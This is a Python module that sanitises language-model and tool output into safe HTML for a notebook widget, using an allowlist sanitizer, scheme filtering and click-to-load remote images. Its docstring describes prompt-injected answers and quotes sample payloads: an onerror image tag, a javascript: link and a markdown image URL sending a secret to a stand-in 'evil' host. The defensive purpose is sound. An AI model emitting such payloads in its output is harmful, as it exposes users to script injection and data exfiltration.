"""Model and tool output as safe HTML: the one function every notebook renderer of such text goes through.

What the model says (and what a tool returns, and what a workspace config names) may be written by an attacker: a
prompt-injected answer can carry ``<img src=x onerror=…>``, a ``javascript:`` link or a markdown image whose URL
carries data out (``![x](https://evil/?q=SECRET)``). JupyterLab would sanitise an *untrusted* output, but the ipywidgets
``Output`` area is always trusted (its model is created ``trusted: true``) and so is every output a running kernel
displays: markdown put there reaches the page as it is, scripts and event handlers included. So the notebook never
hands model text to the front-end's markdown renderer; it renders it here and sends HTML that a well-kept
allowlist sanitizer (``nh3``, the binding of Rust's *ammonia*, html5ever's parser) has cleaned:

- markdown through ``markdown-it-py`` (CommonMark, tables, strikethrough); raw HTML in it is parsed, then cleaned;
- no script, no event handler, no style, no form, no iframe/object/embed/media, no ``<meta>``/``<base>``/``<link>``;
- links keep ``http``/``https``/``mailto`` only, and open in a new tab with ``rel="noopener noreferrer nofollow"``;
- an image loads only from a ``data:`` URL of a raster type; a remote (or relative) markdown image becomes a link
  naming its host (``Image from evil.example: x``): nothing is fetched until the user clicks it;
- fenced code is highlighted by Pygments (classes only, coloured by ``widgets/_style.py``); TeX is kept as written
  for the front-end's MathJax.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from functools import lru_cache
from typing import Any
from urllib.parse import urlsplit

__all__ = ["RASTER_DATA_IMAGE", "image_host", "safe_html", "safe_markdown_html"]

#: The only images shown without a click: inline raster data (no request, no script: SVG is left out).
RASTER_DATA_IMAGE = re.compile(r"^data:image/(?:png|jpe?g|gif|webp|bmp|avif);base64,[a-z0-9+/=\s]*$", re.I)

_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]")
_NO_SOURCE_IMAGE = re.compile(r'<img(?![^>]*\ssrc=")[^>]*>')
_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small",
    "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
}
# dropped with everything inside them (the others not allowed are unwrapped: their text stays, as text)
_CLEAN_CONTENT = {"script", "style", "iframe", "object", "embed", "noscript", "template", "textarea", "select", "svg",
                  "math", "frameset", "noembed", "noframes", "xmp", "title"}
_ATTRIBUTES = {
    "a": {"href", "title"},
    "abbr": {"title"},
    "img": {"src", "alt", "title", "width", "height"},
    "td": {"align", "colspan", "rowspan"},
    "th": {"align", "colspan", "rowspan"},
    "ol": {"start"},
    "details": {"open"},
}
_SET_VALUES = {"a": {"target": "_blank", "referrerpolicy": "no-referrer"},
               "img": {"referrerpolicy": "no-referrer"}}


@lru_cache(maxsize=1)
def _classes() -> dict[str, set[str]]:
    from pygments.token import STANDARD_TYPES

    tokens = {name for name in STANDARD_TYPES.values() if name}
    return {"span": tokens, "a": {"eca-remote-image"}, "pre": {"eca-code"}, "code": {"eca-code"}}


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    """An image's ``src`` only as raster data; a link's ``href`` never as ``data:`` (nh3 checks the schemes)."""
    if tag == "img" and attribute == "src":
        return value if RASTER_DATA_IMAGE.match(value.strip()) else None
    # (a browser ignores whitespace and control characters in a scheme: "da\tta:" is data:)
    if tag == "a" and attribute == "href" and _IGNORED_IN_URL.sub("", value).lower().startswith("data:"):
        return None
    return value


def safe_html(dirty: str) -> str:
    """Any HTML reduced to what cannot run, fetch or submit anything (the allowlist above)."""
    import nh3

    clean = nh3.clean(
        dirty,
        tags=_TAGS,
        clean_content_tags=_CLEAN_CONTENT,
        attributes=_ATTRIBUTES,
        attribute_filter=_attribute_filter,
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values=_SET_VALUES,
        url_schemes={"http", "https", "mailto", "data"},  # data: only as a raster image (the filter)
        allowed_classes=_classes(),
        strip_comments=True,
    )
    # an image whose source was dropped would show as a broken image: nothing instead (nh3's output is serialised
    # by html5ever, one form per tag, so this only ever removes)
    return _NO_SOURCE_IMAGE.sub("", clean)


def image_host(src: str) -> str:
    """Whom a click on an image's placeholder would ask: the URL's host, or this server for a relative path."""
    try:
        host = urlsplit(src.strip()).hostname
    except ValueError:
        host = None
    return host or "this server"


def _highlight(code: str, lang: str, _attrs: Any) -> str:
    """Pygments spans (classes only) for a fenced block in a language it knows; "" lets markdown-it escape it."""
    return _pygmentize(code, lang.split()[0]) if lang.strip() else ""


@lru_cache(maxsize=256)
def _pygmentize(code: str, lang: str) -> str:
    """Cached: a streaming answer is rendered again at every redraw, its finished code blocks unchanged."""
    from pygments import highlight
    from pygments.formatters import HtmlFormatter
    from pygments.lexers import get_lexer_by_name
    from pygments.util import ClassNotFound

    try:
        lexer = get_lexer_by_name(lang)
    except ClassNotFound:
        return ""
    return str(highlight(code, lexer, HtmlFormatter(nowrap=True)))


def _image(_renderer: Any, tokens: Sequence[Any], idx: int, _options: Any, _env: Any) -> str:
    """A markdown image: raster data is shown; anything else is a link naming the host, loaded only on a click."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = "".join(child.content for child in token.children or ())
    if RASTER_DATA_IMAGE.match(src.strip()):
        return f'<img src="{html.escape(src)}" alt="{html.escape(alt)}">'
    host = image_host(src)
    label = f"Image from {host}" + (f": {alt}" if alt else "")
    return (f'<a class="eca-remote-image" href="{html.escape(src)}" title="Open the image from {html.escape(host)}">'
            f"{html.escape(label)}</a>")


_MATH_CLOSERS = {"$$": "$$", "$": "$", "\\(": "\\)", "\\[": "\\]"}


def _math(state: Any, silent: bool) -> bool:
    """TeX (``$…$``, ``$$…$$``, ``\\(…\\)``, ``\\[…\\]``) kept as written, so the front-end's MathJax typesets it as
    it does in markdown (markdown would read ``a_1 * b_2`` as emphasis and ``\\(`` as an escape). ``$`` opens math
    only before a non-space and closes after one, with no backtick between: "$5 and $10" stays text."""
    src, pos = state.src, state.pos
    opener = next((o for o in ("$$", "$", "\\(", "\\[") if src.startswith(o, pos)), None)
    if opener is None:
        return False
    closer = _MATH_CLOSERS[opener]
    start = pos + len(opener)
    end = src.find(closer, start)
    while end != -1 and src[end - 1] == "\\":
        end = src.find(closer, end + 1)
    if end <= start or (opener == "$" and (src[start].isspace() or src[end - 1].isspace() or "`" in src[start:end])):
        return False
    if not silent:
        state.push("math", "", 0).content = src[pos:end + len(closer)]
    state.pos = end + len(closer)
    return True


def _render_math(_renderer: Any, tokens: Sequence[Any], idx: int, _options: Any, _env: Any) -> str:
    return html.escape(tokens[idx].content, quote=False)


@lru_cache(maxsize=1)
def _parser() -> Any:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True, "highlight": _highlight}).enable(["table", "strikethrough"])
    md.inline.ruler.before("escape", "math", _math)
    md.add_render_rule("math", _render_math)
    md.add_render_rule("image", _image)
    return md


def safe_markdown_html(markdown: str) -> str:
    """Markdown from the model or a tool as HTML that is safe to put into a trusted output or ``innerHTML``."""
    rendered = _parser().render(markdown)
    # a code block keeps its class through the sanitiser (the widget's style colours its spans)
    rendered = rendered.replace("<pre><code", '<pre class="eca-code"><code')
    return safe_html(rendered)
